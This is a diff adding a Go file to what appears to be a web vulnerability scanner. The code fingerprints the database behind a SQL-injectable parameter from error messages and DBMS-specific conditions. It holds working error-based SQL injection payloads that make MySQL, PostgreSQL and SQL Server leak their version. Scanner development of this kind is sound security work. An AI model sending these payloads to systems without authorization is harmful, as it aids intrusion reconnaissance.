@@ -0,0 +1,151 @@
+// pkg/tools/webvuln/fingerprint.go
+package webvuln
+
+import (
+	"fmt"
+	"net/url"
+	"regexp"
+	"strings"
+)
+
+// dbmsFingerprint identifies a database from its error messages, a
+// condition only it evaluates to true and an error that leaks its version
+type dbmsFingerprint struct {
+	Name      string
+	Errors    []string       // Error message fragments
+	Condition string         // SQL condition that is only valid on this DBMS
+	Banner    string         // Payload suffix making the DBMS show its version in an error
+	Version   *regexp.Regexp // Extracts the version from an error message
+}
+
+// dbmsFingerprints are the databases the scanner can identify. Every probe
+// only reads the version or calls a side-effect free function.
+var dbmsFingerprints = []dbmsFingerprint{
+	{
+		Name:      "MySQL",
+		Errors:    []string{"You have an error in your SQL syntax", "mysql_fetch", "Warning: mysql", "MySqlException", "MariaDB"},
+		Condition: "CONNECTION_ID()=CONNECTION_ID()",
+		Banner:    "' AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))-- -",
+		Version:   regexp.MustCompile(`~(\d+\.\d+\.\d+[\w.-]*)`),
+	},
+	{
+		Name:      "PostgreSQL",
+		Errors:    []string{"PostgreSQL", "pg_query", "PSQLException", "syntax error at or near"},
+		Condition: "PG_BACKEND_PID()=PG_BACKEND_PID()",
+		Banner:    "' AND 1=CAST(VERSION() AS INT)-- -",
+		Version:   regexp.MustCompile(`PostgreSQL (\d+(\.\d+)*)`),
+	},
+	{
+		Name:      "Microsoft SQL Server",
+		Errors:    []string{"Microsoft SQL Server", "Unclosed quotation mark", "ODBC SQL Server Driver", "SqlException"},
+		Condition: "@@PACK_RECEIVED=@@PACK_RECEIVED",
+		Banner:    "' AND 1=CONVERT(INT,@@VERSION)-- -",
+		Version:   regexp.MustCompile(`Microsoft SQL Server (\d{4}[^'"<\n(]*)`),
+	},
+	{
+		Name:      "Oracle",
+		Errors:    []string{"ORA-", "Oracle error", "Oracle Database"},
+		Condition: "ROWNUM=ROWNUM",
+		Version:   regexp.MustCompile(`Oracle Database (\d+\w*)`),
+	},
+	{
+		Name:      "SQLite",
+		Errors:    []string{"SQLite3::", "SQLITE_ERROR", "sqlite3.OperationalError", "SQLiteException"},
+		Condition: "SQLITE_VERSION()=SQLITE_VERSION()",
+		Version:   regexp.MustCompile(`SQLite (?:version )?(\d+\.\d+\.\d+)`),
+	},
+}
+
+// sqliEvidence is what the SQL injection tests learned about a parameter
+type sqliEvidence struct {
+	ErrorBodies    []string // Responses that contained SQL errors
+	BooleanContext string   // Boolean context template that worked, if any
+	DBMS           string   // DBMS named by a time-based payload, if any
+}
+
+// fingerprintDBMS identifies the database behind an injectable parameter:
+// first from a time-based payload or error messages, then by asking
+// DBMS-specific conditions through a working boolean context. The version is
+// taken from error messages, provoking one with a banner payload if needed.
+// It returns "" if the database can't be identified.
+func (s *Scanner) fingerprintDBMS(target ScanTarget, targetURL *url.URL, params url.Values, paramName string, evidence sqliEvidence) string {
+	var dbms *dbmsFingerprint
+	for i := range dbmsFingerprints {
+		if dbmsFingerprints[i].Name == evidence.DBMS {
+			dbms = &dbmsFingerprints[i]
+		}
+	}
+
+	if dbms == nil {
+		dbms = matchErrors(evidence.ErrorBodies)
+	}
+
+	if dbms == nil && evidence.BooleanContext != "" {
+		dbms = s.matchCondition(target, targetURL, params, paramName, evidence.BooleanContext)
+	}
+
+	if dbms == nil {
+		return ""
+	}
+
+	for _, body := range evidence.ErrorBodies {
+		if match := dbms.Version.FindStringSubmatch(body); match != nil {
+			return dbms.Name + " " + match[1]
+		}
+	}
+
+	if dbms.Banner != "" {
+		attempt, err := s.sendEncoded(target, targetURL, params, paramName, Payload{Value: params.Get(paramName) + dbms.Banner}, nil)
+		if err == nil {
+			if match := dbms.Version.FindStringSubmatch(attempt.Body); match != nil {
+				return dbms.Name + " " + match[1]
+			}
+		}
+	}
+	return dbms.Name
+}
+
+// matchErrors returns the DBMS whose error messages appear in the responses
+func matchErrors(bodies []string) *dbmsFingerprint {
+	for i, dbms := range dbmsFingerprints {
+		for _, body := range bodies {
+			for _, message := range dbms.Errors {
+				if strings.Contains(body, message) {
+					return &dbmsFingerprints[i]
+				}
+			}
+		}
+	}
+	return nil
+}
+
+// matchCondition returns the DBMS whose specific condition keeps the
+// original page in a boolean context. Conditions of other databases fail to
+// parse or call unknown functions, which changes the page.
+func (s *Scanner) matchCondition(target ScanTarget, targetURL *url.URL, params url.Values, paramName, context string) *dbmsFingerprint {
+	original := params.Get(paramName)
+	baseline, err := s.booleanResponse(target, targetURL, params, paramName, original)
+	if err != nil {
+		return nil
+	}
+
+	for i, dbms := range dbmsFingerprints {
+		response, err := s.booleanResponse(target, targetURL, params, paramName, original+fmt.Sprintf(context, dbms.Condition))
+		if err == nil && response == baseline {
+			return &dbmsFingerprints[i]
+		}
+	}
+	return nil
+}
+
+// applyDBMS records the identified database on the SQL injection findings
+// of a parameter. A fingerprint confirms the injection, so High findings
+// are raised to Critical.
+func applyDBMS(results []TestResult, dbms string) {
+	for i := range results {
+		results[i].DBMS = dbms
+		if results[i].Severity == SeverityHigh {
+			results[i].Severity = SeverityCritical
+		}
+	}
+}